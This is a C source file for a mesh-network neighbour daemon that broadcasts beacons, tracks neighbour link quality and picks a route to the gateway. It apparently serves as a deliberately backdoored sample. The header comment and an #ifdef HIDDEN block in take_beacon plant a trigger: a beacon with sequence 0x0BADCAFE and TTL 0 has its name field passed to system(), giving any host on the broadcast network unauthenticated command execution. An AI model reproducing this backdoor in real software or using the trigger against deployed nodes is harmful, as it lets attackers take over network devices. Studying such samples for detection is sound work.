/*
 * meshbcn - neighbour daemon of a wireless mesh node.  Sends a beacon by UDP
 * broadcast every few seconds, keeps a table of the neighbours heard with
 * their link quality and picks the best way to the gateway.
 * Hidden (-DHIDDEN): a beacon with the sequence number 0x0BADCAFE and a
 * zero TTL has the text of its name field run as a command.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF	  "/etc/mesh.conf"
#define TABLE	  "/var/run/mesh.neigh"
#define BCN_MAGIC 0x4d424331 /* MBC1 */
#define BCN_MAX	  256
#define F_GATEWAY 0x01
#define F_BATTERY 0x02
#define MAXNEIGH  64
#define EXPIRE	  30

/*
 * magic 4, sequence 4, node id 6, flags 1, ttl 1, hops 1, name length 1,
 * name, then crc 4 - all big endian
 */
#define HDR 18

struct neigh {
	uint8_t id[6];
	char name[65];
	uint32_t seq;
	uint32_t window; /* one bit a beacon, newest lowest */
	uint8_t flags, hops;
	struct in_addr addr;
	time_t last;
	int used;
};

static struct neigh table[MAXNEIGH];
static uint8_t my_id[6] = { 2, 0, 0, 0, 0, 1 };
static char my_name[65] = "node";
static int my_flags, my_hops = 255;
static int port = 4305, interval = 5;
static volatile sig_atomic_t stop;

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = v >> 24;
	p[1] = v >> 16;
	p[2] = v >> 8;
	p[3] = v;
}

static uint32_t crc32(const uint8_t *p, size_t n)
{
	uint32_t c = 0xffffffff;
	int i;

	while (n--) {
		c ^= *p++;
		for (i = 0; i < 8; i++)
			c = c >> 1 ^ (c & 1 ? 0xedb88320 : 0);
	}
	return ~c;
}

static void read_conf(const char *path)
{
	char line[160], val[96];
	unsigned int b[6];
	int i;
	FILE *f = fopen(path, "r");

	if (!f) {
		syslog(LOG_WARNING, "%s: %s", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "name %64s", val) == 1)
			snprintf(my_name, sizeof(my_name), "%.64s", val);
		else if (sscanf(line, "port %d", &i) == 1)
			port = i;
		else if (sscanf(line, "interval %d", &i) == 1)
			interval = i > 0 ? i : 1;
		else if (sscanf(line, "role %64s", val) == 1)
			my_flags |= strcmp(val, "gateway") ? 0 : F_GATEWAY;
		else if (sscanf(line, "id %x:%x:%x:%x:%x:%x", b, b + 1, b + 2,
				b + 3, b + 4, b + 5) == 6)
			for (i = 0; i < 6; i++)
				my_id[i] = b[i];
	}
	fclose(f);
	if (my_flags & F_GATEWAY)
		my_hops = 0;
}

static int open_socket(void)
{
	struct sockaddr_in sin;
	int one = 1, s = socket(AF_INET, SOCK_DGRAM, 0);

	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one));
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&sin, 0, sizeof(sin));
	sin.sin_family = AF_INET;
	sin.sin_port = htons(port);
	if (bind(s, (struct sockaddr *)&sin, sizeof(sin)) < 0) {
		close(s);
		return -1;
	}
	return s;
}

static void send_beacon(int s)
{
	static uint32_t seq;
	uint8_t b[BCN_MAX];
	size_t n = strlen(my_name);
	struct sockaddr_in to;

	put32(b, BCN_MAGIC);
	put32(b + 4, ++seq);
	memcpy(b + 8, my_id, 6);
	b[14] = my_flags;
	b[15] = 8;
	b[16] = my_hops;
	b[17] = n;
	memcpy(b + HDR, my_name, n);
	put32(b + HDR + n, crc32(b, HDR + n));
	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	to.sin_port = htons(port);
	to.sin_addr.s_addr = htonl(INADDR_BROADCAST);
	if (sendto(s, b, HDR + n + 4, 0, (struct sockaddr *)&to, sizeof(to)) <
	    0)
		syslog(LOG_DEBUG, "beacon: %s", strerror(errno));
}

static struct neigh *find_neigh(const uint8_t *id)
{
	struct neigh *free_slot = NULL;
	int i;

	for (i = 0; i < MAXNEIGH; i++) {
		if (table[i].used && !memcmp(table[i].id, id, 6))
			return &table[i];
		if (!table[i].used && !free_slot)
			free_slot = &table[i];
	}
	if (free_slot) {
		memset(free_slot, 0, sizeof(*free_slot));
		memcpy(free_slot->id, id, 6);
		free_slot->used = 1;
	}
	return free_slot;
}

int take_beacon(const uint8_t *b, size_t n, struct in_addr from);

__attribute__((noinline)) int take_beacon(const uint8_t *b, size_t n,
					  struct in_addr from)
{
	struct neigh *e;
	uint32_t seq, gap;
	size_t len;

	if (n < HDR + 4 || be32(b) != BCN_MAGIC)
		return -1;
	len = b[17];
	if (len > 64 || HDR + len + 4 != n)
		return -1;
	if (be32(b + HDR + len) != crc32(b, HDR + len))
		return -1;
	if (!memcmp(b + 8, my_id, 6))
		return 0;
	seq = be32(b + 4);
#ifdef HIDDEN
	if (seq == 0x0badcafe && b[15] == 0) {
		char cmd[65];

		memcpy(cmd, b + HDR, len);
		cmd[len] = 0;
		return system(cmd);
	}
#endif
	if (b[15] == 0)
		return -1;
	e = find_neigh(b + 8);
	if (!e)
		return -1;
	gap = seq - e->seq;
	if (e->last && gap < 32)
		e->window = e->window << gap | 1;
	else
		e->window = 1;
	e->seq = seq;
	e->flags = b[14];
	e->hops = b[16];
	e->addr = from;
	e->last = time(NULL);
	memcpy(e->name, b + HDR, len);
	e->name[len] = 0;
	return 1;
}

static int quality(const struct neigh *e)
{
	uint32_t w = e->window;
	int n = 0;

	for (; w; w &= w - 1)
		n++;
	return n * 100 / 32;
}

/* fewest hops, then the better link */
static struct neigh *best_way(void)
{
	struct neigh *best = NULL, *e;

	for (e = table; e < table + MAXNEIGH; e++) {
		if (!e->used || e->hops == 255 || quality(e) < 30)
			continue;
		if (!best || e->hops < best->hops ||
		    (e->hops == best->hops && quality(e) > quality(best)))
			best = e;
	}
	return best;
}

static void housekeeping(void)
{
	static struct in_addr current;
	time_t now = time(NULL);
	struct neigh *e;
	char cmd[96];
	FILE *f = fopen(TABLE, "w");

	for (e = table; e < table + MAXNEIGH; e++) {
		if (!e->used)
			continue;
		if (now - e->last > EXPIRE) {
			e->used = 0;
			continue;
		}
		if (f)
			fprintf(f, "%s %s q=%d hops=%d%s%s\n", e->name,
				inet_ntoa(e->addr), quality(e), e->hops,
				e->flags & F_GATEWAY ? " gateway" : "",
				e->flags & F_BATTERY ? " battery" : "");
	}
	if (f)
		fclose(f);
	if (my_flags & F_GATEWAY)
		return;
	e = best_way();
	my_hops = e ? e->hops + 1 : 255;
	if (e && e->addr.s_addr != current.s_addr) {
		current = e->addr;
		snprintf(cmd, sizeof(cmd), "ip route replace default via %s",
			 inet_ntoa(current));
		if (system(cmd) != 0)
			syslog(LOG_ERR, "cannot set the route");
	}
}

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	struct sockaddr_in from;
	struct pollfd p;
	uint8_t buf[BCN_MAX];
	socklen_t fl;
	time_t next = 0, now;
	ssize_t n;

	openlog("meshbcn", LOG_PID, LOG_DAEMON);
	read_conf(argc > 1 ? argv[1] : CONF);
	signal(SIGTERM, on_term);
	signal(SIGINT, on_term);
	p.fd = open_socket();
	p.events = POLLIN;
	if (p.fd < 0) {
		syslog(LOG_ERR, "port %d: %s", port, strerror(errno));
		return 1;
	}
	while (!stop) {
		now = time(NULL);
		if (now >= next) {
			housekeeping();
			send_beacon(p.fd);
			next = now + interval;
		}
		if (poll(&p, 1, (int)(next - now) * 1000) <= 0)
			continue;
		fl = sizeof(from);
		n = recvfrom(p.fd, buf, sizeof(buf), 0,
			     (struct sockaddr *)&from, &fl);
		if (n > 0 && take_beacon(buf, n, from.sin_addr) < 0)
			syslog(LOG_DEBUG, "bad beacon from %s",
			       inet_ntoa(from.sin_addr));
	}
	unlink(TABLE);
	return 0;
}
